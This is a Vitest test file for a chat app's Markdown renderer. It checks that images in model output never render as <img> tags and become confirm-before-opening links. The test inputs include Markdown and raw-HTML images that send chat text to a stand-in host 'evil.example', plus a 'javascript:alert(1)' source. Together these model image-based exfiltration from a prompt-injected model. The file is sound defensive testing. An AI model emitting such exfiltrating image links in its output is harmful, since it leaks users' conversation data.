import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { MarkdownContent } from "@/components/chat/markdown-content";
import { IMAGE_LINK_REL, imageAsLink } from "./markdown-policy";

function render(text: string, streaming = false): string {
  return renderToStaticMarkup(createElement(MarkdownContent, { text, streaming }));
}

describe("imageAsLink", () => {
  it("turns an http(s) image into a link labelled with its alt text", () => {
    expect(imageAsLink("https://evil.example/x.png?q=secret", " a chart ")).toEqual({
      href: "https://evil.example/x.png?q=secret",
      label: "a chart",
      rel: "noopener noreferrer nofollow",
      target: "_blank",
    });
    expect(IMAGE_LINK_REL.split(" ").sort()).toEqual(["nofollow", "noopener", "noreferrer"]);
  });

  it("labels an image without alt text as “image”", () => {
    expect(imageAsLink("http://example.com/a.png", undefined).label).toBe("image");
    expect(imageAsLink("http://example.com/a.png", "   ").label).toBe("image");
  });

  it("links only absolute http(s) sources", () => {
    for (const src of ["javascript:alert(1)", "data:image/png;base64,AAAA", "/api/provider/logout", "", undefined, 42]) {
      expect(imageAsLink(src, "x").href, String(src)).toBeNull();
    }
  });
});

describe("MarkdownContent", () => {
  it("never renders an <img> for a Markdown image in model output", () => {
    const html = render("Here: ![the secret](https://evil.example/collect?q=my%20chat%20text) done");
    expect(html).not.toMatch(/<img\b/i);
    expect(html).not.toContain("evil.example");
    // A link labelled with the alt text, behind the link-safety prompt (which shows the URL on click).
    expect(html).toMatch(/<button[^>]*data-streamdown="link"[^>]*>the secret<\/button>/);
  });

  it("shows an image inside a link as plain text, not as a link nested in a link", () => {
    const html = render("[![build passing](https://evil.example/badge.svg)](https://example.com/ci)");
    expect(html).not.toMatch(/<img\b/i);
    expect(html.match(/data-streamdown="link"/g)).toHaveLength(1);
    expect(html).toContain('<span data-markdown-image="unlinked">build passing</span>');
  });

  it("never renders an <img> for raw HTML images or <picture> sources", () => {
    const html = render(
      'A <img src="https://evil.example/raw?q=1" alt="raw"> and <picture><source srcset="https://evil.example/src?q=2"><img src="https://evil.example/pic?q=3"></picture>',
    );
    expect(html).not.toMatch(/<img\b/i);
    expect(html).not.toMatch(/<source\b/i);
    expect(html).not.toContain("https://evil.example/src?q=2");
  });

  it("does not load images while streaming either", () => {
    expect(render("![x](https://evil.example/a?q=1)\n\nmore", true)).not.toMatch(/<img\b/i);
  });

  it("keeps link safety on: a link is a button that asks before opening, not a direct <a href>", () => {
    const html = render("[click](https://evil.example/?q=secret)");
    expect(html).toContain('data-streamdown="link"');
    expect(html).toMatch(/<button[^>]*data-streamdown="link"/);
    expect(html).not.toMatch(/<a\b[^>]*href="https:\/\/evil\.example/);
  });
});
